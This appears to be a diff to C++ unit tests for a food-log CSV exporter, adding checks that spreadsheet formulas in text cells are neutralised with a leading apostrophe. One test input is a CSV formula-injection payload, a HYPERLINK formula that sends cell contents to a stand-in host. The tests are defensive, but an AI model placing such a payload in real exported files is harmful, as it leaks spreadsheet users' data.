@@ -5,14 +5,20 @@
 #include "refdata/DataSourceMgr.h"
 #include "support/GermanLocale.h"
 
+#include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
 #include <cmath>
 #include <limits>
 
+using ::testing::EndsWith;
+using ::testing::HasSubstr;
+
 namespace {
 
-TEST(CsvField, QuotesOnlyWhatNeedsItAndDoublesQuotes) {
+// Quoting as RFC 4180 has it; a text a spreadsheet would run as a formula gets a leading
+// apostrophe and stays otherwise as it was.
+TEST(CsvField, QuotesOnlyWhatNeedsItAndDisarmsFormulas) {
     struct Case {
         const char* text;
         const char* field;
@@ -25,6 +31,15 @@ TEST(CsvField, QuotesOnlyWhatNeedsItAndDoublesQuotes) {
         {"line\nbreak", "\"line\nbreak\""},
         {"cr\rhere", "\"cr\rhere\""},
         {"Crème brûlée; 'x'", "Crème brûlée; 'x'"},
+        {"=HYPERLINK(\"http://x.test/?d=\"&A1,\"Click\")",
+         "\"'=HYPERLINK(\"\"http://x.test/?d=\"\"&A1,\"\"Click\"\")\""},
+        {"+1+1", "'+1+1"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+        {"\tcmd", "'\tcmd"},
+        {"\rcmd", "\"'\rcmd\""},
+        {"a=b+c-d@e", "a=b+c-d@e"},
+        {" =1", " =1"},
     };
     for (const Case& c : cases) EXPECT_EQ(c.field, CsvExport::Field(c.text)) << c.text;
 }
@@ -74,6 +89,21 @@ TEST_F(CsvOfALog, DailyRowsOnlyForDaysWithFoodsOrFactValues) {
         "date,meal,food,SOURCE:KEY,amount,unit,grams,Energy (kcal),Protein (g),Total lipid (fat) (g),"
         "\"Carbohydrate, by difference (g)\",\"Iron, Fe (mg)\",Vitamin C (mg)\r\n",
         CsvExport::Text(log_, CsvExport::Kind::Entries, "20240302", "20240304"));
+}
+
+// Names anyone may have typed (a meal, a fact) are disarmed wherever they stand, the header
+// included; numbers, negative ones too, stay numbers a spreadsheet can add up.
+TEST_F(CsvOfALog, TextCellsAreDisarmedAndNegativeNumbersStayNumbers) {
+    log_.Facts().AddOrUpdate(UserLog::CFactReference("=1+2", UserLog::kUndefinedValue, ""));
+    log_.SelectDay("20240301");
+    log_.AddFood(100, 0, "@Lunch", *foods_.FindFood(FoodKey(100, 7)));
+    log_.GetCurrentDay()->SetFact("=1+2", -2.5);
+
+    const std::string daily = CsvExport::Text(log_, CsvExport::Kind::Daily, "20240301", "20240301");
+    EXPECT_THAT(daily, HasSubstr(",'=1+2\r\n"));
+    EXPECT_THAT(daily, EndsWith(",-2.5\r\n"));
+    EXPECT_THAT(CsvExport::Text(log_, CsvExport::Kind::Entries, "20240301", "20240301"),
+                HasSubstr("\r\n20240301,'@Lunch,Stew,7:100,"));
 }
 
 }  // namespace
